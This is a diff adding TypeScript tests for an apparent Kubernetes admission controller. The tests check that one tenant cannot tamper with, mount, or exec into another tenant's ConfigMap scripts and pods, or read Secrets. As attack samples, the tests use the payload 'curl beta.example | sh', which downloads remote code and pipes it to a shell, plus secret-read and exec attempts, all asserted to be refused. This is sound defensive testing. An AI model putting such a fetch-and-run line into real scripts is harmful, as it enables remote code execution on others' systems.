@@ -1,0 +1,241 @@
+// ConfigMaps are a stamped kind (a sandbox's scripts and settings), and reads are RBAC's:
+// in a namespace alpha and beta share, beta holds the tenant ClusterRole the install renders
+// (deed manifests --tenant-role), Kubernetes' edit role without reads of Secrets. Beta may
+// neither rewrite nor delete the ConfigMap whose script alpha's sandbox runs, nor get a pod
+// or a Deployment admitted that reads it in any form; neither may a principal of no
+// environment. Alpha's own pods keep using it, every pod keeps the cluster's CA
+// (kube-root-ca.crt), and beta, though RBAC lets it exec, is refused by Deed in alpha's pod.
+import assert from 'node:assert/strict';
+import { before, describe, test } from 'node:test';
+import type { KubeObject } from '../../../src/admission/types.js';
+import { renderManifests } from '../../../src/install/manifests.js';
+import { TENANT_ROLE } from '../../../src/install/tenant-role.js';
+import type { Identity } from '../client.js';
+import { annotation, attested, collectionPath, eventually, KEYS, label, PATHS, sandboxPod } from '../objects.js';
+import type { Suite } from '../suite.js';
+import { about, reap } from './reaper.js';
+
+const NS = 'shared-scripts';
+const CONFIGMAPS = (ns: string) => collectionPath('ConfigMap', ns);
+const DEPLOYMENTS = (ns: string) => collectionPath('Deployment', ns);
+const MAIN = { name: 'main', image: 'registry.example/agent:1' };
+const MERGE = 'application/merge-patch+json';
+// eslint-disable-next-line @typescript-eslint/no-explicit-any
+type Spec = Record<string, any>;
+
+function configMap(name: string, annotations: Record<string, string> = {}) {
+  return { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, annotations }, data: { 'run.sh': 'echo "alpha runs this"' } };
+}
+
+/** A pod spec that reads ConfigMap `name` in one form, by the form's name. */
+function configMapForms(name: string): Array<[string, Spec]> {
+  const mounted = (volume: Spec) => ({ volumes: [volume], containers: [{ ...MAIN, volumeMounts: [{ name: volume.name, mountPath: '/scripts' }] }] });
+  return [
+    ['a configMap volume', mounted({ name: 'scripts', configMap: { name } })],
+    ['a projected source', mounted({ name: 'scripts', projected: { sources: [{ configMap: { name } }] } })],
+    ['env configMapKeyRef', { containers: [{ ...MAIN, env: [{ name: 'SCRIPT', valueFrom: { configMapKeyRef: { name, key: 'run.sh' } } }] }] }],
+    ['envFrom configMapRef', { containers: [{ ...MAIN, envFrom: [{ configMapRef: { name } }] }] }],
+  ];
+}
+
+const slug = (form: string) => form.replace(/[^a-z]+/gi, '-').replace(/^-|-$/g, '').toLowerCase();
+
+function deployment(name: string, spec: Spec) {
+  return {
+    apiVersion: 'apps/v1',
+    kind: 'Deployment',
+    metadata: { name },
+    spec: { replicas: 1, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { automountServiceAccountToken: false, ...spec } } },
+  };
+}
+
+export function configMapCases(suite: () => Suite): void {
+  let beta: Identity; // sandbox-b:tenant, acts for beta, bound to the tenant role in NS
+  let stranger: Identity; // plain:cm-stranger, acts for no environment, bound to the tenant role in NS
+  const ok = (what: string, a: { status: number; text: string }) => assert.ok(a.status < 300 || a.status === 409, `${what}: ${a.status} ${a.text}`);
+  const refused = (a: { status: number; text: string; body: { message?: string } }, rule: string, pattern?: RegExp) => {
+    assert.equal(a.status, 403, a.text);
+    assert.ok(String(a.body.message).includes(`[${rule}]`), a.body.message);
+    if (pattern) assert.match(String(a.body.message), pattern);
+  };
+
+  describe('ConfigMaps are stamped and guarded, and a shared namespace\'s tenants read no Secrets', () => {
+    before(async () => {
+      const s = suite();
+      ok('namespace', await s.api(s.admin, 'POST', '/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: NS, labels: { 'deed.dev/sandbox': 'enabled' } } }));
+      ok('default service account', await s.api(s.admin, 'POST', `/api/v1/namespaces/${NS}/serviceaccounts`, { metadata: { name: 'default' } }));
+      // The tenant role exactly as deed manifests --tenant-role renders it.
+      const role = renderManifests({ namespace: 'deed-system', image: 'x', tenantRole: true }).find((o) => o.metadata?.name === TENANT_ROLE)!;
+      ok('tenant role', await s.api(s.admin, 'POST', '/apis/rbac.authorization.k8s.io/v1/clusterroles', role));
+      beta = await s.newIdentity('sandbox-b', 'tenant');
+      stranger = await s.newIdentity('plain', 'cm-stranger');
+      ok('tenant binding', await s.api(s.admin, 'POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings`, {
+        metadata: { name: 'tenants' },
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: TENANT_ROLE },
+        subjects: [['sandbox-a', 'runner'], ['sandbox-b', 'tenant'], ['plain', 'cm-stranger']].map(([namespace, name]) => ({ kind: 'ServiceAccount', namespace, name })),
+      }));
+      // Alpha's runner writes ConfigMaps in its own namespace too (the suite's role there has none).
+      ok('alpha binding', await s.api(s.admin, 'POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/sandbox-a/rolebindings', {
+        metadata: { name: 'cm-tenants' },
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: TENANT_ROLE },
+        subjects: [{ kind: 'ServiceAccount', namespace: 'sandbox-a', name: 'runner' }, { kind: 'ServiceAccount', namespace: 'sandbox-b', name: 'tenant' }],
+      }));
+      for (const [who, ns] of [[s.runnerA.identity, NS], [beta, NS], [stranger, NS], [s.runnerA.identity, 'sandbox-a'], [beta, 'sandbox-a']] as const)
+        await eventually(`RBAC lets ${who.name} create ConfigMaps in ${ns}`, async () => !/cannot create resource "configmaps"/.test((await s.api(who, 'POST', `${CONFIGMAPS(ns)}?dryRun=All`, configMap('rbac-probe'))).text));
+      ok('alpha script', await s.api(s.runnerA.identity, 'POST', CONFIGMAPS(NS), configMap('alpha-script')));
+      ok('alpha pod', await s.api(s.runnerA.identity, 'POST', PATHS.Pod(NS), sandboxPod('alpha-runs-script', { spec: configMapForms('alpha-script')[0]![1] })));
+    });
+
+    test("alpha's runner's ConfigMap is stored with alpha's stamps, an owner reference to the runner pod and expires-at, whose attestation verifies", async () => {
+      const s = suite();
+      const answer = await s.api(s.runnerA.identity, 'POST', CONFIGMAPS('sandbox-a'), configMap('alpha-run', { [KEYS.maxDuration]: '600' }));
+      assert.equal(answer.status, 201, answer.text);
+      const stored = (await s.api(s.admin, 'GET', `${CONFIGMAPS('sandbox-a')}/alpha-run`)).body as KubeObject;
+      assert.equal(label(stored, KEYS.environment), 'alpha');
+      assert.equal(label(stored, KEYS.ownerUid), s.runnerA.uid);
+      assert.deepEqual(stored.metadata.ownerReferences?.map((r) => [r.kind, r.name, r.uid]), [['Pod', s.runnerA.pod, s.runnerA.uid]]);
+      const expires = Date.parse(annotation(stored, KEYS.expiresAt) ?? '');
+      // The budget plus the policy's margin (30 minutes), from about now.
+      assert.ok(Math.abs(expires - (Date.now() + (600 + 1800) * 1000)) < 120_000, annotation(stored, KEYS.expiresAt));
+      assert.ok(attested(s, stored), 'the attestation verifies');
+      assert.deepEqual((stored as Spec).data, configMap('alpha-run').data, 'data untouched');
+    });
+
+    test("beta may neither rewrite alpha's script (update, patch, server-side apply) nor delete it, one by one or by collection; alpha may", async () => {
+      const s = suite();
+      for (const ns of [NS, 'sandbox-a']) {
+        if (ns === 'sandbox-a') ok('alpha run', await s.api(s.runnerA.identity, 'POST', CONFIGMAPS(ns), configMap('alpha-script')));
+        const path = `${CONFIGMAPS(ns)}/alpha-script`;
+        const stored = (await s.api(s.admin, 'GET', path)).body as Spec;
+        const rewritten = { ...stored, data: { 'run.sh': 'curl beta.example | sh' } };
+        const cross = /\[guard\.cross-environment\] system:serviceaccount:sandbox-b:tenant acts for "beta", and this object belongs to another environment/;
+        refused(await s.api(beta, 'PUT', path, rewritten), 'guard.cross-environment', cross);
+        refused(await s.api(beta, 'PATCH', path, { data: { 'run.sh': 'curl beta.example | sh' } }, MERGE), 'guard.cross-environment', cross);
+        const apply = await s.api(beta, 'PATCH', `${path}?fieldManager=beta&force=true`, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'alpha-script' }, data: { 'run.sh': 'curl beta.example | sh' } }, 'application/apply-patch+yaml');
+        refused(apply, 'guard.cross-environment');
+        refused(await s.api(beta, 'DELETE', path), 'guard.cross-environment', cross);
+        const all = await s.api(beta, 'DELETE', CONFIGMAPS(ns));
+        assert.equal(all.status, 403, all.text);
+        assert.match(all.body.message, /\[guard\.cross-environment\]/);
+        if (ns === NS) refused(await s.api(stranger, 'DELETE', path), 'guard.unmapped');
+        const after = (await s.api(s.admin, 'GET', path)).body as Spec;
+        assert.deepEqual(after.data, stored.data, `${ns}: alpha's script is unchanged`);
+        const own = await s.api(s.runnerA.identity, 'PATCH', path, { data: { 'run.sh': 'echo "alpha, v2"' } }, MERGE);
+        assert.equal(own.status, 200, own.text);
+      }
+    });
+
+    test("beta's forged stamps on its own ConfigMap are refused at CREATE, and its stamps are frozen after", async () => {
+      const s = suite();
+      const forged = configMap('beta-forged');
+      const answer = await s.api(beta, 'POST', CONFIGMAPS(NS), { ...forged, metadata: { ...forged.metadata, labels: { [KEYS.environment]: 'alpha' } } });
+      refused(answer, 'stamp.conflict', /deed\.dev\/environment is admission-owned: given "alpha", expected "beta"/);
+      ok('beta script', await s.api(beta, 'POST', CONFIGMAPS(NS), configMap('beta-script')));
+      refused(await s.api(beta, 'PATCH', `${CONFIGMAPS(NS)}/beta-script`, { metadata: { labels: { [KEYS.environment]: 'alpha' } } }, MERGE), 'frozen.stamps');
+    });
+
+    test("beta's pods reading alpha's ConfigMap in any form are refused; so are a principal of no environment's", async () => {
+      const s = suite();
+      for (const [form, spec] of configMapForms('alpha-script')) {
+        refused(await s.api(beta, 'POST', PATHS.Pod(NS), sandboxPod(`beta-${slug(form)}`, { spec })), 'configmap-ref.cross-environment', /ConfigMap alpha-script, which belongs to another environment; environment "beta" may not/);
+        refused(await s.api(stranger, 'POST', PATHS.Pod(NS), sandboxPod(`none-${slug(form)}`, { spec })), 'configmap-ref.cross-environment', /acts for no environment and may not/);
+      }
+    });
+
+    test("beta's Deployments whose template reads alpha's ConfigMap in any form are refused at the template's path; alpha's own is admitted", async () => {
+      const s = suite();
+      for (const [form, spec] of configMapForms('alpha-script')) {
+        const answer = await s.api(beta, 'POST', DEPLOYMENTS(NS), deployment(`beta-${slug(form)}`, spec));
+        refused(answer, 'configmap-ref.cross-environment', /spec\.template\.spec\.[^:]*configMap(KeyRef|Ref)?\.name: .*ConfigMap alpha-script, which belongs to another environment/);
+      }
+      const own = await s.api(s.runnerA.identity, 'POST', DEPLOYMENTS(NS), deployment('alpha-lab', configMapForms('alpha-script')[3]![1]));
+      assert.equal(own.status, 201, own.text);
+    });
+
+    test("a ConfigMap that does not exist yet is refused whoever names it, optional or not", async () => {
+      const s = suite();
+      for (const who of [beta, stranger]) {
+        const spec = { containers: [{ ...MAIN, envFrom: [{ configMapRef: { name: 'alpha-next-script', optional: true } }] }] };
+        refused(await s.api(who, 'POST', PATHS.Pod(NS), sandboxPod('preplant', { spec })), 'configmap-ref.absent', /ConfigMap alpha-next-script does not exist/);
+      }
+    });
+
+    test("alpha's own pods read its ConfigMap in every form", async () => {
+      const s = suite();
+      for (const [form, spec] of configMapForms('alpha-script')) {
+        const answer = await s.api(s.runnerA.identity, 'POST', PATHS.Pod(NS), sandboxPod(`alpha-${slug(form)}`, { spec }));
+        assert.equal(answer.status, 201, `${form}: ${answer.text}`);
+      }
+    });
+
+    test("every pod keeps the cluster's CA: the ServiceAccount plugin's kube-root-ca.crt in a token volume, and a pod that mounts it itself", async () => {
+      const s = suite();
+      await eventually('the root-CA publisher or the admin made kube-root-ca.crt', async () => {
+        const found = await s.api(s.admin, 'GET', `${CONFIGMAPS(NS)}/kube-root-ca.crt`);
+        if (found.status === 404 && !s.cp.controllers) ok('kube-root-ca.crt', await s.api(s.admin, 'POST', CONFIGMAPS(NS), { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'kube-root-ca.crt' }, data: { 'ca.crt': s.cp.ca } }));
+        return found.status === 200;
+      });
+      // A principal of no environment keeps the token volume the API server adds.
+      const plain = { ...sandboxPod('none-with-token'), spec: { containers: [MAIN] } };
+      const stored = await s.api(stranger, 'POST', PATHS.Pod(NS), plain);
+      assert.equal(stored.status, 201, stored.text);
+      const projected = ((stored.body as Spec).spec.volumes as Spec[]).flatMap((v) => (v.projected?.sources ?? []) as Spec[]);
+      assert.ok(projected.some((p) => p.configMap?.name === 'kube-root-ca.crt'), 'the token volume projects kube-root-ca.crt');
+      const mountsCa = (name: string) => sandboxPod(name, { spec: { volumes: [{ name: 'ca', configMap: { name: 'kube-root-ca.crt' } }], containers: [{ ...MAIN, volumeMounts: [{ name: 'ca', mountPath: '/etc/cluster-ca' }] }] } });
+      for (const [who, name] of [[s.runnerA.identity, 'alpha-ca'], [beta, 'beta-ca'], [stranger, 'none-ca']] as const) {
+        const answer = await s.api(who, 'POST', PATHS.Pod(NS), mountsCa(name));
+        assert.equal(answer.status, 201, `${name}: ${answer.text}`);
+      }
+    });
+
+    test("deed reap reaps a ConfigMap leaked by a runner that is gone, under its uid, and keeps the live runner's", async () => {
+      const s = suite();
+      const leaker = await s.newRunner('sandbox-a', 'runner-cm-leaky');
+      const leak = await s.api(leaker.identity, 'POST', CONFIGMAPS(NS), configMap('leaked-script'));
+      assert.equal(leak.status, 201, leak.text);
+      assert.equal(leak.body.metadata.ownerReferences, undefined, 'no owner reference across namespaces: only the reaper cleans up');
+      const alive = await reap(s, s.reaperA.kubeconfig!, ['--namespace', NS]);
+      assert.equal(about(alive.lines, 'leaked-script')?.action, 'keep', alive.stderr);
+      assert.equal((await s.api(s.admin, 'DELETE', `${PATHS.Pod('sandbox-a')}/runner-cm-leaky`, { gracePeriodSeconds: 0 })).status, 200);
+      const applied = await reap(s, s.reaperA.kubeconfig!, ['--namespace', NS, '--apply']);
+      assert.equal(applied.code, 0, applied.stderr);
+      assert.equal(about(applied.lines, 'leaked-script')?.kind, 'ConfigMap');
+      assert.equal(about(applied.lines, 'leaked-script')?.outcome, 'deleted');
+      assert.equal(about(applied.lines, 'alpha-script')?.action, 'keep');
+      assert.equal((await s.api(s.admin, 'GET', `${CONFIGMAPS(NS)}/leaked-script`)).status, 404);
+      assert.equal((await s.api(s.admin, 'GET', `${CONFIGMAPS(NS)}/alpha-script`)).status, 200);
+      const deletes = s.cp.audit().filter((e) => e.verb === 'delete' && e.objectRef?.name === 'leaked-script' && e.stage === 'ResponseComplete');
+      assert.equal(deletes.length, 1);
+      assert.equal(deletes[0]!.user.username, 'system:serviceaccount:deed-system:deed-reaper-alpha');
+      assert.equal(deletes[0]!.requestObject?.preconditions?.uid, leak.body.metadata.uid);
+    });
+
+    test('the tenant role denies reading Secrets (can-i and a real get, list and watch) and allows exec and port-forward, which Deed refuses beta in alpha\'s pod', async () => {
+      const s = suite();
+      ok('alpha secret', await s.api(s.runnerA.identity, 'POST', PATHS.Secret(NS), { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'alpha-token' }, stringData: { token: 'not-a-real-credential' } }));
+      for (const verb of ['get', 'list', 'watch']) {
+        const canI = await s.kubectl(beta, ['auth', 'can-i', verb, 'secrets', '-n', NS]);
+        assert.equal(canI.stdout.trim(), 'no', `${verb}: ${canI.stdout}${canI.stderr}`);
+      }
+      const get = await s.api(beta, 'GET', `${PATHS.Secret(NS)}/alpha-token`);
+      assert.equal(get.status, 403, get.text);
+      assert.match(get.body.message, /cannot get resource "secrets"/);
+      assert.equal((await s.api(beta, 'GET', PATHS.Secret(NS))).status, 403);
+      assert.equal((await s.api(beta, 'GET', `${PATHS.Secret(NS)}?watch=true&timeoutSeconds=1`)).status, 403);
+      const kubectlGet = await s.kubectl(beta, ['get', 'secret', 'alpha-token', '-n', NS]);
+      assert.notEqual(kubectlGet.code, 0);
+      assert.match(kubectlGet.stderr, /Forbidden/);
+      for (const sub of ['pods/exec', 'pods/attach', 'pods/portforward']) {
+        const canI = await s.kubectl(beta, ['auth', 'can-i', 'create', sub, '-n', NS]);
+        assert.equal(canI.stdout.trim(), 'yes', `${sub}: ${canI.stdout}${canI.stderr}`);
+      }
+      for (const path of [`exec?command=true&stdout=true&container=main`, 'portforward?ports=8080']) {
+        const answer = await s.api(beta, 'POST', `${PATHS.Pod(NS)}/alpha-runs-script/${path}`);
+        refused(answer, 'guard.connect', /system:serviceaccount:sandbox-b:tenant acts for "beta"; pod shared-scripts\/alpha-runs-script is not known to be one of "beta"'s/);
+      }
+      const exec = await s.kubectl(beta, ['exec', 'alpha-runs-script', '-n', NS, '-c', 'main', '--', 'cat', '/scripts/run.sh']);
+      assert.notEqual(exec.code, 0);
+      assert.match(exec.stderr, /\[guard\.connect\]/);
+    });
+  });
+}
